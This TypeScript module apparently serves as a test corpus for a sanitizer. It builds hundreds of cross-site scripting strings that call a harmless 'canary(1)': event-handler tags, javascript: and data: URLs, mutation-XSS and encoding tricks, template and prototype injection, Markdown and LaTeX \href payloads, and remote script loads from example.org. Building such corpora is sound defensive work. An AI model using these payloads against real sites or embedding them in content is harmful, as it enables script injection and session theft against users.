/** Texts that try to run a script, to load, to navigate or to stand over the app. `canary` is what all of them call. */

const CALL = 'canary(1)'
const { raw } = String

const VISIBLE = ['svg', 'img', 'body', 'video', 'audio', 'details', 'input', 'button', 'select', 'textarea', 'marquee', 'iframe', 'object', 'embed', 'form', 'style', 'link', 'math', 'div', 'a', 'table', 'x-y', 'dialog', 'meter'] as const
const HANDLERS: readonly (readonly [string, string])[] = [
  ['onerror', 'src=x:y'], ['onload', ''], ['onfocus', 'autofocus tabindex=0'], ['ontoggle', 'open'], ['onmouseover', 'width=9999'], ['onanimationstart', 'style=animation:fade_1s'],
]

const handlers = VISIBLE.flatMap((tag) => HANDLERS.map(([handler, rest]) => `<${tag} ${rest} ${handler}=${CALL}>a</${tag}>`))

const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `java&#9;script:${CALL}`, `java&NewLine;script:${CALL}`, `&#106;avascript&colon;${CALL}`,
  `javascript&#x3a;${CALL}`, `vbscript:${CALL}`, `data:text/html,<script>${CALL}</script>`, 'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=', `blob:https://example.org/${CALL}`, `filesystem:x`, 'file:///etc/passwd', '//example.org/x', 'http://example.org/', '\\\\example.org\\share', `app://bundle/media/../index.html`, 'about:blank', `https:javascript:${CALL}`,
]
const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`, (address) => `<img src="${address}" alt="a">`, (address) => `<iframe src="${address}"></iframe>a`, (address) => `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
]
const addresses = ADDRESSES.flatMap((address) => PLACES.map((place) => place(address)))

const OTHER_MARKUP = [
  `<script>${CALL}</script>a`, `<script src=https://example.org/a.js></script>a`, `<scr<script>ipt>${CALL}</scr</script>ipt>a`, `<script/x>${CALL}</script>a`, `<script>//<!--\n${CALL}</script>a`, `<svg><script>${CALL}</script></svg>a`, `<svg><script href="data:,${CALL}"/></svg>a`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>a`, `<object data="data:text/html,<script>${CALL}</script>"></object>a`, `<embed src="data:text/html,<script>${CALL}</script>">a`, `<base href="https://example.org/">a`, `<meta http-equiv=refresh content="0;url=https://example.org/">a`, `<meta http-equiv="Content-Security-Policy" content="script-src *">a`,
  `<link rel=stylesheet href=https://example.org/a.css>a`, `<link rel=preload as=script href=https://example.org/a.js>a`, `<link rel=dns-prefetch href=//example.org>a`, `<form action="javascript:${CALL}"><button>a</button></form>`, `<form><button formaction="javascript:${CALL}">a</button></form>`, `<isindex action=javascript:${CALL} type=submit>a`, `<input type=image src=x onerror=${CALL}>a`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>a`, `<svg><set attributeName=href to=javascript:${CALL}>a`, `<svg><a><animate attributeName=href values=javascript:${CALL} /><text y=9>a</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>a`, `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>a`, `<svg><style>@import 'https://example.org/a.css'</style></svg>a`, `<svg><image href=https://example.org/a.png /></svg>a`,
  `<math><maction actiontype=statusline#https://example.org/ xlink:href=javascript:${CALL}>a</maction></math>`, `<math href=javascript:${CALL}>a</math>`, `<math><annotation-xml encoding=text/html><img src=x onerror=${CALL}></annotation-xml></math>a`,
  `<template><img src=x onerror=${CALL}></template>a`, `<div><template shadowrootmode=open><img src=x onerror=${CALL}></template></div>a`, `<slot name=x>a</slot>`, `<p is=x-y onclick=${CALL}>a</p>`, `<noscript><img src=x onerror=${CALL}></noscript>a`, `<xmp><img src=x onerror=${CALL}></xmp>a`, `<plaintext>a<img src=x onerror=${CALL}>`,
  `<img srcset="https://example.org/a.png 2x" alt=a>`, `<picture><source srcset=https://example.org/a.png><img alt=a></picture>`, `<video poster=https://example.org/a.png></video>a`, `<audio><source src=x onerror=${CALL}></audio>a`, `<video><track default src=https://example.org/a.vtt></video>a`, `<a href=https://example.org/ ping=https://example.org/p>a</a>`, `<a href=https://example.org/ target=_blank>a</a>`, `<area href=javascript:${CALL}>a`, `<q cite=javascript:${CALL}>a</q>`, `<table background=https://example.org/a.png><tr><td>a</table>`,
  `<div style="background:url(https://example.org/a.png)">a</div>`, `<div style="position:fixed;inset:0;z-index:9999">a</div>`, `<div style=width:expression(${CALL})>a</div>`, `<style>@import url(https://example.org/a.css);*{display:none}</style>a`, `<style>body{background:url(https://example.org/a.png)}</style>a`, `<div class="toast rail" id=app name=api>a</div>`, `<form id=api><input name=invoke></form>a`, `<img name=body alt=a>`, `<a id=api><a id=api name=x>a`, `<iframe name=api></iframe>a`,
  `<b tabindex=1 accesskey=x contenteditable draggable=true popover onbeforetoggle=${CALL}>a</b>`, `<button popovertarget=x onclick=${CALL}>a</button>`, `<input type=password autofocus>a`, `<dialog open>a</dialog>`, `<portal src=https://example.org/></portal>a`, `<fencedframe src=https://example.org/></fencedframe>a`,
]

/** Markup that becomes something else when it is written out and read again. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">a`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">a`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">a`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>a`,
  `<svg><desc><style><img title="</style><img src onerror=${CALL}>"></desc></svg>a`, `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${CALL}>"></annotation-xml></math>a`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=1 onerror=${CALL}>">a</a>`, `<svg><title><style><img src="</style><img src=x onerror=${CALL}>"></title></svg>a`,
  `<textarea><img title="</textarea><img src=x onerror=${CALL}>"></textarea>a`, `<iframe><img title="</iframe><img src=x onerror=${CALL}>"></iframe>a`, `<noembed><img title="</noembed><img src=x onerror=${CALL}>">a`, `<listing><img title="</listing><img src=x onerror=${CALL}>">a`, `<x-y><![CDATA[><img src=x onerror=${CALL}>]]>a`, `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>a`, `<?xml ><img src=x onerror=${CALL}>?>a`, `<!--><img src=x onerror=${CALL}>-->a`, `<!--!><img src=x onerror=${CALL}>--!>a`, `<table><td><svg><p><style><g title="</style><img src=x onerror=${CALL}>">a`,
  `${'<div>'.repeat(60)}<svg><style><a title="</style><img src=x onerror=${CALL}>">a`, `<b a="<plain-a href='javascript:${CALL}'>">a</b>`, `<plain-a href="javascript:${CALL}">a</plain-a>`, `<span data-math="inline">${raw`\href{javascript:canary(1)}{a}`}</span>`, `<code data-code="python">"</code><img src=x onerror=${CALL}>`,
]

const ENCODED = [
  `&lt;img src=x onerror=${CALL}&gt;a`, `&#60;img src=x onerror=${CALL}&#62;a`, `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;a`, `%3Cscript%3E${CALL}%3C/script%3Ea`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-a`, `＜script＞${CALL}＜/script＞a`, `<\u0000script>${CALL}</script>a`, `<img\u000csrc=x\u000conerror=${CALL}>a`, `<img/src=x/onerror=${CALL}>a`, `<img src=x onerror=&#99;anary(1)>a`, `<img src="x\` \`<script>${CALL}</script>"\` \`>a`, raw`\u003cscript\u003ecanary(1)\u003c/script\u003ea`, `\u202e<script>${CALL}</script>a`, `"><img src=x onerror=${CALL}>a`, `'><img src=x onerror=${CALL}>a`, `</textarea></title></style></script><img src=x onerror=${CALL}>a`, `]]>--><img src=x onerror=${CALL}>a`,
]

const TEMPLATES = [`{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, '@:errors.internal.what', '{0} {count} | a', `{{c1::<img src=x onerror=${CALL}>}}`, '__proto__', 'constructor', `[[${CALL}]]`, `v-html="${CALL}"`, `<div v-on:click=${CALL} @click=${CALL} :href=${CALL}>a</div>`]

const MARKDOWN = [
  ...['javascript:canary(1)', 'JAVASCRIPT:canary(1)', 'javascript&colon;canary(1)', '&#x6A;avascript:canary(1)', 'data:text/html,<script>canary(1)</script>', 'vbscript:canary(1)', 'file:///etc/passwd', '//example.org', '<javascript:canary(1)>', 'javascript:canary(1) "a"', 'https://example.org/"onmouseover="canary(1)', raw`https://example.org/\"onerror=canary(1)`].flatMap((address) => [`[a](${address})`, `![a](${address})`]),
  `<javascript:${CALL}>`, `[a]: javascript:${CALL}\n\n[a]`, `[a][b]\n\n[b]: data:text/html,x`, `[a](https://example.org/ "\\"onmouseover=${CALL}")`, `![a"onerror="${CALL}](https://example.org/a.png)`, `\`\`\`"onload="${CALL}\na\n\`\`\``, `\`\`\`html\n<img src=x onerror=${CALL}>\n\`\`\``, `\`<img src=x onerror=${CALL}>\``, `**<img src=x onerror=${CALL}>**`, `==<script>${CALL}</script>==`, `> <svg onload=${CALL}>`, `| <img src=x onerror=${CALL}> |\n|:-"onload=${CALL}-|\n| a |`, `- <details open ontoggle=${CALL}>`, `[<img src=x onerror=${CALL}>](https://example.org/)`,
]

const FORMULAS = [
  raw`\href{javascript:canary(1)}{a}`, raw`\url{javascript:canary(1)}`, raw`\includegraphics{https://example.org/a.png}`, raw`\htmlClass{toast}{a}`, raw`\htmlId{app}{a}`, raw`\htmlStyle{position:fixed}{a}`, raw`\htmlData{x=1}{a}`, raw`\text{<img src=x onerror=canary(1)>}`, `<img src=x onerror=${CALL}>`, raw`\unicode{<script>}`, raw`\def\a{\href{javascript:canary(1)}{a}}\a`, raw`\color{red;background:url(https://example.org)}a`, raw`\kern-9999em\rule{9999em}{9999em}a`, raw`\html{<script>canary(1)</script>}`, raw`\tag{<script>canary(1)</script>}a`, raw`\char"3c script`, raw`a\label{<img src=x onerror=canary(1)>}`,
].flatMap((tex) => [`$${tex}$`, raw`\(` + tex + raw`\)`])

/** Every one of them, each once. */
export const PAYLOADS: readonly string[] = [...new Set([...handlers, ...addresses, ...OTHER_MARKUP, ...MUTATING, ...ENCODED, ...TEMPLATES, ...MARKDOWN, ...FORMULAS])]
